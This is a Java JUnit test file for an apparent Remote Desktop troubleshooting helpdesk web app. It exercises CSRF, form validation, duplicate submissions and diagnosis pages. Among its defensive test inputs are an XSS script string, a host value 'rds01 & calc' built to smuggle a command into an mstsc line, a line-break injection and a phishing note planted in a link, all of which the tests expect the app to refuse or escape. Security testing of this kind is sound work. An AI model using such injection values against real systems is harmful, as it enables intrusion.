package org.rdpdoctor.web;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.lang.reflect.Proxy;
import java.net.CookieManager;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpHeaders;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse.BodyHandlers;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Arrays;
import java.util.HashSet;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.regex.MatchResult;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DisplayNameGeneration;
import org.junit.jupiter.api.DisplayNameGenerator;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.rdpdoctor.IdempotencyKey;
import org.rdpdoctor.RdpDoctor;
import org.rdpdoctor.SessionView;
import org.rdpdoctor.StartRequest;
import org.rdpdoctor.engine.DiagnosisState;
import org.rdpdoctor.engine.Event;
import org.rdpdoctor.engine.RuleBase;
import org.rdpdoctor.kb.BrokenFixture;
import org.rdpdoctor.kb.Cause;
import org.rdpdoctor.kb.Environment;
import org.rdpdoctor.kb.Fix;
import org.rdpdoctor.kb.KnowledgeBase;
import org.rdpdoctor.store.SessionStore;
import org.rdpdoctor.store.StoreUnavailableException;

/**
 * The helpdesk pages over HTTP against the real server, knowledge and templates, posting forms as a
 * browser does: with the CSRF cookie and the hidden {@code _csrf} field of the page, redirects not
 * followed so that each 303 is seen.
 */
@DisplayNameGeneration(DisplayNameGenerator.ReplaceUnderscores.class)
class PagesTest {
    private static final String SCRIPT = "<script>alert(\"rdp\")</script>";
    private static final String SCRIPT_AS_TEXT =
            "&lt;script&gt;alert(&quot;rdp&quot;)&lt;/script&gt;";
    private static final Pattern CSRF_FIELD =
            Pattern.compile("name=\"_csrf\" value=\"([0-9a-f]{32}\\.[0-9a-f]{64})\"");
    private static final String STALE_NOTE =
            "This was not recorded: the session changed after the page was shown";
    private static final Pattern SESSION_PATH = Pattern.compile("/sessions/[0-9a-f-]{36}");

    private static RuleBase rules;
    private static RunningApp app;

    private final HttpClient browser = newBrowser();

    @BeforeAll
    static void startApp() {
        rules = RuleBase.load(Path.of("kb"), Path.of("rules"));
        app = RunningApp.withMemoryStore(rules);
    }

    @AfterAll
    static void stopApp() {
        if (app != null) {
            app.close();
        }
    }

    @Test
    void start_page_offers_the_common_pair_and_sets_the_csrf_cookie() {
        Page start = get("/");

        assertThat(start.status()).isEqualTo(200);
        assertThat(start.header("Content-Type"))
                .startsWith("text/html")
                .containsIgnoringCase("charset=utf-8");
        assertThat(start.body())
                .contains("What did Remote Desktop say?")
                .containsPattern(CSRF_FIELD);
        assertThat(tags(start.body(), "input", "id=\"pair-common\""))
                .singleElement()
                .asString()
                .contains("checked");
        assertThat(start.header("Set-Cookie"))
                .startsWith(Csrf.COOKIE + "=" + csrfField(start))
                .contains("HttpOnly")
                .containsIgnoringCase("SameSite=Lax");
    }

    @Test
    void starting_with_the_common_pair_redirects_with_303_to_the_first_question() {
        String token = csrfField(get("/"));

        Page created = post("/sessions", form("_csrf", token, "pair", "0x904/0x7"));

        assertThat(created.status()).isEqualTo(303);
        assertThat(created.header("Location")).matches(SESSION_PATH);
        Page session = get(created.header("Location"));
        assertThat(session.status()).isEqualTo(200);
        assertThat(session.body())
                .contains("Question 1")
                .contains("<code>0x904</code>")
                .contains("disconnectReasonAtClientWinsockFDCLOSE")
                .contains("<code>0x7</code>")
                .contains("name=\"eventCount\" value=\"1\"")
                .contains("name=\"optionId\" value=\"unknown\"");
    }

    @Test
    void why_this_question_says_what_each_answer_would_do_in_words() {
        String session = startSession();
        DiagnosisState state = app.doctor().session(id(session)).state();
        String body = get(session).body().replaceAll("\\s+", " ");

        assertThat(state.nextQuestion().why().effects())
                .isNotEmpty()
                .allSatisfy(
                        e ->
                                assertThat(body)
                                        .contains(
                                                "If you answer <strong>"
                                                        + text(e.label())
                                                        + "</strong>: <span>"
                                                        + text(e.leaderTitle())
                                                        + "</span> "
                                                        + (e.leader().equals(state.leadingCause())
                                                                ? "would still lead"
                                                                : "would lead")
                                                        + ", at <span>"));
        assertThat(body).contains("would still lead").containsPattern("</span> would lead, at");
    }

    @Test
    void an_answer_is_posted_and_redirected_back_to_the_diagnosis() {
        String session = startSession();

        Page answered = answer(session, "error-message", "credssp-oracle", 1);

        assertThat(answered.status()).isEqualTo(303);
        assertThat(answered.header("Location")).isEqualTo(session);
        assertThat(get(session).body())
                .contains("Most likely: <span>" + text(title("credssp-oracle-mismatch")))
                .contains("Fixes, in the order to try them")
                .contains("This fixed it")
                .contains(text(label("error-message", "credssp-oracle")));
    }

    @Test
    void each_rule_in_the_ranking_says_in_words_how_strongly_it_speaks_for_or_against_its_cause() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);

        String page = get(session).body();
        String transcript = get(session + "/transcript").body();

        assertThat(page)
                .contains("<strong>strongly for</strong> “<span>CredSSP encryption oracle message")
                .contains("<strong>moderately against</strong> “<span>A socket that had connected")
                .doesNotContain("moderate_against");
        assertThat(transcript)
                .contains("<span>strongly for</span>: <span>CredSSP encryption oracle message")
                .containsPattern(
                        "CredSSP encryption oracle message</span>\\s*<span class=\"sources\">— sources\\s*<a\\s+href=\""
                                + Pattern.quote(kb().source("r15").orElseThrow().location())
                                + "\"[^>]*>r15</a>")
                .contains("<h2>Sources</h2>")
                .contains(
                        "<span>r15</span>: <span>"
                                + text(kb().source("r15").orElseThrow().title())
                                + "</span>")
                .contains(
                        "<a href=\""
                                + kb().source("r15").orElseThrow().location()
                                + "\" rel=\"noreferrer\">")
                .doesNotContain("moderate_against");
    }

    @Test
    void an_answer_naming_a_platform_shows_what_that_platform_does_by_default() {
        String session = startSession();
        Environment windows7 = kb().environment("windows-7-sp1").orElseThrow();

        answer(session, "client-platform", "windows-7-sp1", 1);

        assertThat(get(session).body())
                .contains("Platforms in this case")
                .contains("<span>client</span>: <span>" + text(windows7.title()) + "</span>")
                .contains("<li>" + text(windows7.defaults().get(0)) + "</li>")
                .contains("title=\"" + text(kb().source("r21").orElseThrow().title()))
                .containsPattern(">r21</a>, <a\\s");
    }

    @Test
    void the_causes_page_lists_every_cause_by_category_with_its_fixes_step_by_step() {
        Cause credssp = kb().cause("credssp-oracle-mismatch").orElseThrow();
        Fix first = kb().fix(credssp.fixes().get(0)).orElseThrow();

        Page page = get("/causes");

        assertThat(page.status()).isEqualTo(200);
        assertThat(page.body())
                .contains("<section class=\"card\" id=\"category-security\"")
                .contains("<details class=\"cause\" id=\"credssp-oracle-mismatch\">")
                .contains("<h3><span class=\"num\">1</span> <span>" + text(first.title()))
                .contains("<p>" + text(first.steps().get(0).text()) + "</p>");
        for (Cause cause : kb().causes()) {
            assertThat(page.body()).contains("id=\"" + cause.id() + "\"");
        }
    }

    @Test
    void a_ranked_cause_in_the_side_panel_links_to_its_entry_on_the_causes_page() {
        assertThat(get(startSession()).body())
                .contains("<a class=\"bar-label\" href=\"/causes#credssp-oracle-mismatch\">");
    }

    @Test
    void a_fix_that_worked_marks_the_session_solved() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        String fix = kb().cause("credssp-oracle-mismatch").orElseThrow().fixes().get(0);

        Page tried = fixTried(session, fix, "true", 2);

        assertThat(tried.status()).isEqualTo(303);
        assertThat(get(session).body())
                .contains("Solved: <span>" + text(title("credssp-oracle-mismatch")))
                .contains("<span class=\"status solved\">solved by a fix</span>")
                .contains("<h3>Fixes tried</h3>")
                .doesNotContain("This fixed it");
    }

    @Test
    void a_workaround_that_worked_says_on_the_page_what_is_still_to_do() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        String workaround = "allow-vulnerable-credssp-temporarily";

        fixTried(session, workaround, "true", 2);

        assertThat(get(session).body())
                .contains("<span class=\"status solved\">solved by a fix</span>")
                .contains(
                        "<strong>Still to do:</strong> <span>"
                                + text(kb().fix(workaround).orElseThrow().followUp())
                                + "</span>");
    }

    @Test
    void a_fix_marked_as_working_by_mistake_can_be_corrected_and_the_session_reopens() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        String fix = kb().cause("credssp-oracle-mismatch").orElseThrow().fixes().get(0);
        fixTried(session, fix, "true", 2);
        assertThat(get(session).body()).contains(">Correct: it did not help</button>");

        Page corrected = fixTried(session, fix, "false", 3);

        assertThat(corrected.status()).isEqualTo(303);
        assertThat(get(session).body())
                .doesNotContain("Solved:")
                .contains("<strong>did not help</strong>")
                .contains(">Correct: it fixed it</button>");
        assertThat(app.doctor().session(id(session)).status().id()).isEqualTo("open");
    }

    /**
     * A restart that did not help leaves the broken listener in the lead: the page keeps offering
     * its next fix and says why the failure counted so little, as the causes page does.
     */
    @Test
    void a_fix_whose_failure_counts_weakly_keeps_its_cause_and_says_why() {
        String session = startSession();
        answer(session, "server-listener", "no-listener", 1);
        answer(session, "localhost-test", "fails", 2);
        answer(session, "other-clients-connect", "nobody", 3);
        String why =
                text(
                        kb().fix("restart-remote-desktop-services")
                                .orElseThrow()
                                .ifFailed("listener-broken")
                                .meaning());

        Page tried = fixTried(session, "restart-remote-desktop-services", "false", 4);

        assertThat(tried.header("Location")).as("no note: the page says it").isEqualTo(session);
        assertThat(why).startsWith("If it does not help, this cause stays likely.");
        String page = get(session).body();
        assertThat(page)
                .contains("Most likely: <span>" + text(title("listener-broken")))
                .contains(
                        "<span class=\"status open\">open, a likely cause found, fixes to try</span>")
                .contains("<p class=\"if-failed\">" + why + "</p>");
        String next = kb().fix("repair-listener-registry-settings").orElseThrow().title();
        assertThat(tags(page, "button", label("Didn't help: " + next))).hasSize(1);
        assertThat(get("/causes").body()).contains("<p class=\"if-failed\">" + why + "</p>");
    }

    /**
     * The listener moved to another port: of the two fixes of a port conflict or change, aligning
     * the port comes first, and the page says which answer put it there and by which rule.
     */
    @Test
    void a_fix_the_answers_point_at_comes_first_with_the_answer_that_moved_it() {
        String session = startSession();
        answer(session, "server-listener", "different-port", 1);
        answer(session, "localhost-test", "works", 2);
        answer(session, "tcp-port-test", "fails", 3);

        String page = get(session).body();

        assertThat(tags(page, "article", "class=\"fix"))
                .first()
                .asString()
                .contains("fix-align-rdp-port-number");
        assertThat(shown(fixArticle(page, "align-rdp-port-number")))
                .contains(
                        text(
                                "Moved up because \"On the host, is Remote Desktop turned on and"
                                        + " listening on port 3389?\" → rdp-tcp listens on a port"
                                        + " other than the one the client uses (rule “The listener"
                                        + " uses another port: align the port first”) — sources"
                                        + " r17, r16"));
        assertThat(fixArticle(page, "free-rdp-port-3389")).doesNotContain("try-first");
        assertThat(shown(get(session + "/transcript").body()))
                .contains(
                        text(
                                kb().fix("align-rdp-port-number").orElseThrow().title()
                                        + " — moved up because \"On the host, is Remote Desktop"
                                        + " turned on and listening on port 3389?\" → rdp-tcp"
                                        + " listens on a port other than the one the client uses"));
    }

    /**
     * Diagnosed from the CredSSP message alone, the page asks for the client's platform before the
     * fixes, saying why; the answer reorders the fixes and the question is gone.
     */
    @Test
    void a_diagnosis_asks_the_question_that_orders_its_fixes_and_the_answer_reorders_them() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);

        String diagnosed = get(session).body();

        assertThat(diagnosed)
                .contains(
                        "<h2 id=\"fq-title\">One more answer decides the order to try the fixes"
                                + " in</h2>")
                .contains("Most likely: <span>" + text(title("credssp-oracle-mismatch")))
                .contains(text(kb().question("client-platform").orElseThrow().text()))
                .contains(text("Its answer decides the order to try the fixes of"));
        assertThat(tags(diagnosed, "button", "name=\"optionId\""))
                .as("the optional question's buttons take no number keys")
                .isNotEmpty()
                .noneMatch(tag -> tag.contains("data-key"));
        assertThat(diagnosed.indexOf("id=\"fix-relax-encryption-oracle-on-server\""))
                .isLessThan(diagnosed.indexOf("id=\"fix-allow-vulnerable-credssp-temporarily\""));

        answer(session, "client-platform", "windows-10-11", 2);
        String ordered = get(session).body();

        assertThat(ordered).doesNotContain("fq-title");
        assertThat(shown(fixArticle(ordered, "allow-vulnerable-credssp-temporarily")))
                .startsWith("id=\"fix-allow-vulnerable-credssp-temporarily\"> 2 ")
                .contains("Moved up because");
    }

    @Test
    void a_failed_fix_that_takes_its_cause_out_of_the_lead_says_so_above_what_follows() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        String cause = "credssp-oracle-mismatch";
        String fix = kb().cause(cause).orElseThrow().fixes().get(0);

        Page tried = fixTried(session, fix, "false", 2);

        assertThat(tried.status()).isEqualTo(303);
        assertThat(get(tried.header("Location")).body())
                .contains(
                        text(
                                "Recorded: \u201C"
                                        + kb().fix(fix).orElseThrow().title()
                                        + "\u201D did not help, which counts against "
                                        + title(cause)
                                        + ": no cause is clear any more, so the questions go on."))
                .contains("<h1 id=\"q-title\">");
    }

    @Test
    void a_failed_fix_is_listed_as_tried() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        String fix = kb().cause("credssp-oracle-mismatch").orElseThrow().fixes().get(0);

        fixTried(session, fix, "false", 2);

        assertThat(get(session).body())
                .contains("<h3>Fixes tried</h3>")
                .contains(text(kb().fix(fix).orElseThrow().title()))
                .contains("<strong>did not help</strong>");
    }

    @Test
    void
            a_session_where_no_cause_stands_out_names_the_closest_cause_but_offers_none_of_its_fixes() {
        String session = startSession();
        SessionView exhausted = exhausted(id(session));
        String closest = exhausted.state().leadingCause();

        String body = get(session).body();

        assertThat(body)
                .contains("No cause stands out")
                .doesNotContain("Fixes, in the order to try them")
                .doesNotContain("This fixed it")
                .contains("href=\"/causes#" + closest + "\"")
                .contains(text(kb().cause(closest).orElseThrow().summary()));
        assertThat(shown(body))
                .contains("Closest, though unlikely: " + title(closest) + " (")
                .contains("No fix is offered for a cause this unlikely")
                .contains("Change an answer you were unsure of.")
                .doesNotContain("take it as a guess")
                .as("this server probes nothing")
                .doesNotContain("check the host");
        assertThat(exhausted.state().basisNote()).doesNotContain("guess");
    }

    @Test
    void a_fix_outcome_other_than_true_or_false_is_refused_naming_worked() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        String fix = kb().cause("credssp-oracle-mismatch").orElseThrow().fixes().get(0);

        List<Page> refused =
                List.of("maybe", "YES", "1", "").stream()
                        .map(worked -> fixTried(session, fix, worked, 2))
                        .toList();

        assertThat(refused)
                .allSatisfy(
                        page -> {
                            assertThat(page.status()).isEqualTo(400);
                            assertThat(page.body())
                                    .contains("&#39;worked&#39; must be true or false");
                        });
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(2);
    }

    @Test
    void a_line_break_in_the_ticket_reference_is_refused_and_starts_no_session() {
        String token = token();
        var before = app.doctor().recentSessions(1);

        Page refused =
                post(
                        "/sessions",
                        form(
                                "_csrf",
                                token,
                                "pair",
                                "0x904/0x7",
                                "ticketRef",
                                "INC-1\n- Status: solved"));

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.body()).contains("id=\"ticketRef-error\">Must be one line");
        assertThat(app.doctor().recentSessions(1)).isEqualTo(before);
    }

    @Test
    void every_field_of_the_start_form_at_fault_is_named_at_once_and_what_was_typed_is_kept() {
        var before = app.doctor().recentSessions(1);

        Page refused =
                post(
                        "/sessions",
                        form(
                                "_csrf",
                                token(),
                                "pair",
                                "other",
                                "errorCode",
                                "0xZZ",
                                "host",
                                "h".repeat(300),
                                "ticketRef",
                                "INC\u200b42",
                                "notes",
                                "checked by Ann"));

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.body())
                .contains("id=\"host-error\">Longer than 253 characters (300 given)</p>")
                .contains(
                        "id=\"ticketRef-error\">Has the invisible character U+200B at character 4")
                .contains("id=\"errorCode-error\">")
                .contains(
                        "aria-invalid=\"true\" aria-describedby=\"errorCode-error\""
                                + " autofocus=\"autofocus\"")
                .contains("aria-invalid=\"true\" aria-describedby=\"host-error\">")
                .contains("aria-invalid=\"true\" aria-describedby=\"ticketRef-error\">")
                .contains("checked by Ann")
                .contains("h".repeat(300));
        assertThat(app.doctor().recentSessions(1)).isEqualTo(before);
    }

    @Test
    void starting_and_checking_a_long_malformed_host_lands_on_the_session_with_a_short_note() {
        String host = "a".repeat(250) + "!";

        Page created =
                post(
                        "/sessions",
                        form("_csrf", token(), "pair", "0x904/0x7", "host", host, "probe", "1"));
        Page session = get(created.header("Location"));

        assertThat(created.status()).isEqualTo(303);
        assertThat(session.status()).isEqualTo(200);
        assertThat(session.body()).contains("The host was not checked: ").contains("\u2026");
    }

    @Test
    void a_form_sent_twice_is_applied_once_and_the_second_time_says_it_was_already_recorded() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);

        Page again = answer(session, "error-message", "credssp-oracle", 1);

        assertThat(again.status()).isEqualTo(303);
        assertThat(again.header("Location")).startsWith(session + "?note=");
        assertThat(get(again.header("Location")).body())
                .contains(
                        "<p class=\"note\" role=\"status\">Already recorded: this form was sent"
                                + " twice, and what it sent counts once.")
                .doesNotContain(STALE_NOTE);
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(2);
    }

    @Test
    void a_start_form_sent_twice_starts_one_session_and_the_second_time_says_so() {
        Map<String, String> sent = startForm(get("/"), "DBL-2");
        Page first = post("/sessions", sent);

        Page again = post("/sessions", sent);

        assertThat(first.status()).isEqualTo(303);
        assertThat(again.status()).isEqualTo(303);
        assertThat(again.header("Location")).startsWith(first.header("Location") + "?note=");
        assertThat(get(again.header("Location")).body())
                .contains(
                        "<p class=\"note\" role=\"status\">Already recorded: this form was sent"
                                + " twice, and what it sent counts once.");
        assertThat(app.doctor().sessionsOfTicket("DBL-2")).hasSize(1);
    }

    @Test
    void a_start_form_sent_again_changed_starts_nothing_and_a_new_form_with_the_changes_starts() {
        Page start = get("/");
        Map<String, String> sent = startForm(start, "DBL-3");
        String first = post("/sessions", sent).header("Location");
        sent.put("ticketRef", "DBL-4");

        Page changed = post("/sessions", sent);
        var startedByChanged = app.doctor().sessionsOfTicket("DBL-4");
        sent.put(Pages.START_KEY, startKey(changed));
        Page resent = post("/sessions", sent);

        assertThat(changed.status()).isEqualTo(422);
        assertThat(changed.body())
                .contains(
                        "Nothing was started: this form already started session "
                                + id(first)
                                + " (in the list below) before it was changed. To start another"
                                + " session with what is typed now, send it again.")
                .contains("value=\"DBL-4\"");
        assertThat(startKey(changed)).isNotEqualTo(startKey(start));
        assertThat(startedByChanged).isEmpty();
        assertThat(resent.status()).isEqualTo(303);
        assertThat(resent.header("Location")).isNotEqualTo(first);
        assertThat(app.doctor().sessionsOfTicket("DBL-4")).hasSize(1);
        assertThat(app.doctor().sessionsOfTicket("DBL-3")).hasSize(1);
    }

    @Test
    void a_form_sent_again_after_another_step_says_it_was_not_recorded() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        answer(session, "error-message", "only-codes", 2);

        Page again = answer(session, "error-message", "credssp-oracle", 1);

        assertThat(again.status()).isEqualTo(303);
        assertThat(get(again.header("Location")).body()).contains(STALE_NOTE);
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(3);
    }

    @Test
    void a_note_written_into_a_link_is_not_shown() {
        String session = startSession();

        String body =
                get(session + "?note=" + encode("Call 555-0100 and give your password")).body();

        assertThat(body).doesNotContain("555-0100").doesNotContain("class=\"note\"");
    }

    @Test
    void an_answer_from_a_page_drawn_before_another_tab_answered_is_not_recorded_and_says_so() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);

        Page stale = answer(session, "error-message", "only-codes", 1);
        Page shown = get(stale.header("Location"));

        assertThat(stale.status()).isEqualTo(303);
        assertThat(shown.body())
                .contains("<p class=\"note\" role=\"status\">" + STALE_NOTE)
                .contains(text(label("error-message", "credssp-oracle")))
                .doesNotContain(text(label("error-message", "only-codes")));
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(2);
        assertThat(get(session).body()).doesNotContain(STALE_NOTE);
    }

    @Test
    void an_event_count_that_is_not_a_number_is_a_400_naming_the_field_and_nothing_is_recorded() {
        String session = startSession();

        Page refused =
                post(session + "/answer", answerForm("error-message", "credssp-oracle", "abc"));

        assertThat(refused.status()).isEqualTo(400);
        assertThat(refused.header("Content-Type")).startsWith("text/html");
        assertThat(refused.body())
                .contains("<h1>Bad request</h1>")
                .contains(
                        text("'eventCount' must be the number of events the page was drawn from"));
        assertThat(app.doctor().session(id(session)).eventCount()).isEqualTo(1);
    }

    @Test
    void the_fixes_commands_name_the_sessions_host_when_it_is_a_host_name() {
        String dialog = "This could be due to CredSSP encryption oracle remediation.";
        String named = startSession("host", "rds01.corp.example", "ticketText", dialog);
        String odd = startSession("host", "rds01 & calc", "ticketText", dialog);
        String otherPort = startSession("host", "rds01.corp.example:3390", "ticketText", dialog);

        String namedPage = get(named).body();

        assertThat(namedPage)
                .contains("mstsc /v:rds01.corp.example</code>")
                .doesNotContain("mstsc /v:&lt;host&gt;");
        assertThat(get(odd).body())
                .as("text that is no host is not put into a command")
                .contains("mstsc /v:&lt;host&gt;</code>");
        assertThat(get(otherPort).body())
                .as("commands for <host> would reach 3389, not the port given")
                .contains("mstsc /v:&lt;host&gt;</code>");
    }

    @Test
    void changing_an_answer_shows_why_the_question_matters_and_what_each_answer_would_do() {
        String session = startSession();
        answer(session, "error-message", "credssp-oracle", 1);
        String leaderNow = app.doctor().session(id(session)).state().leadingCause();

        String changing = get(session + "?question=error-message").body();

        assertThat(leaderNow).isEqualTo("credssp-oracle-mismatch");
        assertThat(changing)
                .contains("Change your answer")
                .contains("<summary>Why this question?</summary>")
                .contains(text("Without your answer to it, the leading causes are: "))
                .contains(
                        "If you answer <strong>"
                                + text(
                                        kb().question("error-message")
                                                .orElseThrow()
                                                .option("no-license-server")
                                                .orElseThrow()
                                                .label())
                                + "</strong>:")
                .containsPattern("RD Session Host licensing failure</span>\\s*would lead");
        assertThat(app.doctor().session(id(session)).eventCount())
                .as("looking is not answering")
                .isEqualTo(2);
    }

    @Test
    void events_read_from_the_ticket_are_all_listed_and_stay_beside_the_users_answer() {
        String session =
                startSession("ticketText", "System log: Event ID 1057, then Event ID 36870");
        String before = get(session).body();
        String adding = get(session + "?question=server-events").body();

        answer(
                session,
                "server-events",
                "tls-events",
                app.doctor().session(id(session)).eventCount());

        String body = get(session).body();
        assertThat(before)
                .contains(text(label("server-events", "cert-renewal-events")))
                .contains(text(label("server-events", "private-key-event")))
                .contains(">from ticket</span>")
                .contains("<a href=\"" + session + "?question=server-events\"")
                .contains(">Add yours</a>")
                .contains(
                        text(
                                "An event you saw counts beside the ticket's; None of these replaces it"))
                .doesNotContain(">Correct</a>")
                .doesNotContain(">Withdraw</button>");
        assertThat(adding)
                .contains(">Add your answer</p>")
                .contains(">Keep the answers as they are</a>")
                .doesNotContain("current answer");
        assertThat(body)
                .contains(text(label("server-events", "tls-events")))
                .contains(text(label("server-events", "cert-renewal-events")))
                .contains(text(label("server-events", "private-key-event")))
                .contains(">Withdraw</button>")
                .contains(">Change</a>")
                .doesNotContain(">Add yours</a>");
    }

    @Test
    void an_answer_from_evidence_the_user_reported_can_be_corrected_but_not_withdrawn() {
        String session = startSession();
        app.doctor()
                .apply(id(session), new Event.EvidenceAdded("tcp-connect", "open", "user", null));

        String body = get(session).body();

        assertThat(body)
                .contains(text(label("tcp-port-test", "succeeds")))
                .contains(">from user</span>")
                .contains(">Correct</a>")
                .doesNotContain(">Withdraw</button>");
    }

    @Test
    void an_answer_the_user_gave_as_well_as_reported_can_be_withdrawn() {
        String session = startSession();
        app.doctor()
                .apply(id(session), new Event.EvidenceAdded("tcp-connect", "open", "user", null));
        answer(session, "tcp-port-test", "fails", 2);

        String body = get(session).body();

        assertThat(body)
                .contains(text(label("tcp-port-test", "fails")))
                .doesNotContain(">from user</span>")
                .contains(">Change</a>")
                .contains(">Withdraw</button>");
    }

    @Test
    void the_ticket_text_stays_with_the_session_for_whoever_picks_it_up() {
        String ticket = "User <b>jdoe</b>: Error code: 0x204\n  since Monday's patch";
        String session = startSession("ticketText", ticket);

        assertThat(get(session).body())
                .contains("<summary>The ticket text as pasted</summary>")
                .contains(
                        "<pre>User &lt;b&gt;jdoe&lt;/b&gt;: Error code: 0x204\n"
                                + "  since Monday&#39;s patch</pre>");
        assertThat(get(startSession()).body()).doesNotContain("The ticket text as pasted");
    }

    @Test
    void a_step_the_knowledge_no_longer_takes_is_named_on_the_page_and_in_the_transcript(
            @TempDir Path dir) throws IOException {
        String session = startSession();
        answer(session, "other-client-app", "also-fails", 1);
        Path kb = BrokenFixture.copyTree(Path.of("kb"), dir.resolve("kb"));
        Path drl = BrokenFixture.copyTree(Path.of("rules"), dir.resolve("rules"));
        for (Path file : List.of(kb.resolve("questions.yaml"), drl.resolve("client.drl"))) {
            Files.writeString(
                    file, Files.readString(file).replace("also-fails", "every-app-fails"));
        }
        Page page;
        Page transcript;
        app.doctor().replaceRules(RuleBase.load(kb, drl));
        try {
            page = get(session);
            transcript = get(session + "/transcript");
        } finally {
            app.doctor().replaceRules(rules);
        }

        assertThat(page.status()).isEqualTo(200);
        assertThat(shown(page.body()))
                .contains("some of its steps, and they no longer count: step 2 (optionId:");
        assertThat(shown(transcript.body()))
                .contains(
                        text(
                                "(no longer counts, the knowledge or the engine changed: optionId:"
                                        + " 'also-fails'"
                                        + " is not an option of 'other-client-app'"));
    }

    @Test
    void a_query_parameter_given_twice_to_a_page_is_a_400_naming_it() {
        String session = startSession();

        Map<String, Page> pages = new LinkedHashMap<>();
        pages.put("code", get("/tree?code=0x904&code=0x204"));
        pages.put("ticketRef", get("/?ticketRef=INC-1&ticketRef=INC-2"));
        pages.put("question", get(session + "?question=error-message&question=error-timing"));

        assertRefusedAsGivenTwice(pages);
    }

    @Test
    void a_form_field_given_twice_is_a_400_naming_it_and_nothing_is_recorded() {
        String session = startSession();
        String id = session.substring(session.lastIndexOf('/') + 1);
        int events = app.doctor().session(id).eventCount();
        String csrf = "_csrf=" + encode(token());

        Map<String, Page> pages = new LinkedHashMap<>();
        pages.put(
                "ticketRef",
                postRaw(
                        "/sessions",
                        bytes(csrf + "&pair=0x904%2F0x7&ticketRef=INC-1&ticketRef=INC-2")));
        pages.put(
                "optionId",
                postRaw(
                        session + "/answer",
                        bytes(
                                csrf
                                        + "&questionId=error-timing&optionId=before-credentials"
                                        + "&optionId=after-credentials&eventCount="
                                        + events)));

        assertRefusedAsGivenTwice(pages);
        assertThat(app.doctor().session(id).eventCount()).isEqualTo(events);
        assertThat(app.doctor().sessionsOfTicket("INC-1")).isEmpty();
    }

    /** Each page, by the name of the parameter given twice, is a 400 naming it. */
    private static void assertRefusedAsGivenTwice(Map<String, Page> pages) {
        assertThat(pages)
                .allSatisfy(
                        (name, page) -> {
                            assertThat(page.status()).as(name).isEqualTo(400);
                            assertThat(page.body())
                                    .as(name)
                                    .contains(
                                            text("'" + name + "' is given 2 times: give it once"));
                        });
    }

    @Test
    void codes_in_the_ticket_text_win_over_the_preset_pair_and_the_page_says_so() {
        String session = startSession("ticketText", "Error code: 0x204 Extended error code: 0x0");

        String body = get(session).body();
        assertThat(body).contains("<code>0x204</code>").doesNotContain("<code>0x904</code>");
        assertThat(body).contains("The codes were read from the ticket text");
    }

    @Test
    void an_event_log_line_naming_the_preset_error_code_keeps_the_preset_extended_code() {
        String session =
                startSession(
                        "ticketText",
                        "Event ID: 1026 RDPClient_ActiveX: The client has been disconnected"
                                + " (Reason= 2308)");

        String body = get(session).body();
        assertThat(body)
                .contains("Extended code <code>0x7</code>")
                .contains(
                        text(
                                "The ticket text confirms the error code 0x904 (2308); it names no"
                                        + " extended code, so the preset's 0x7 was kept."))
                .doesNotContain("The codes were read from the ticket text");
        DiagnosisState.Decoded decoded = app.doctor().session(id(session)).state().decoded();
        assertThat(decoded.error().hex()).isEqualTo("0x904");
        assertThat(decoded.extended().hex()).isEqualTo("0x7");
    }

    @Test
    void
            a_ticket_naming_a_second_error_keeps_saying_so_and_starts_its_session_once_with_its_codes() {
        String session =
                startSession(
                        "ticketRef",
                        "INC-7721",
                        "host",
                        "rds01",
                        "ticketText",
                        "An authentication error has occurred. This could be due to CredSSP"
                                + " encryption oracle remediation.\n"
                                + "Error code: 0x904 Extended error code: 0x7\n"
                                + "From home: Error code: 0x204 Extended error code: 0x0\n"
                                + "Client log: disconnected (Reason= 2308)");
        String also =
                "The ticket text also names the error code 0x204 / 0x0; this session diagnoses"
                        + " 0x904, so start another session for it.";

        String first = get(session).body();
        String later = get("/sessions/" + id(session)).body();
        Page started = post("/sessions", hiddenFields(later, "Start a session for 0x204 / 0x0"));
        String afterwards = get("/sessions/" + id(session)).body();

        assertThat(first)
                .contains(text("The ticket text agrees with the preset: 0x904 / 0x7."))
                .contains(text(also));
        assertThat(later).as("without the start's note").contains(text(also));
        assertThat(started.status()).as(started.body()).isEqualTo(303);
        String second = id(started.header("Location"));
        SessionView other = app.doctor().session(second);
        assertThat(other.state().decoded().error().hex()).isEqualTo("0x204");
        assertThat(other.state().decoded().extended().hex()).isEqualTo("0x0");
        assertThat(other.ticketRef()).isEqualTo("INC-7721");
        Event.Started start = (Event.Started) other.events().get(0).event();
        assertThat(start.host()).isEqualTo("rds01");
        assertThat(start.notes()).startsWith("Started from the ticket of session " + id(session));
        assertThat(other.state().evidence())
                .as("the CredSSP message may be the other attempt's: not taken")
                .noneMatch(e -> e.source().equals("ticket"));
        assertThat(get("/sessions/" + second).body())
                .contains("<span class=\"tag\">implied by the error code</span>")
                .contains("title=\"Your answer replaces what the error code implies\"");
        assertThat(afterwards)
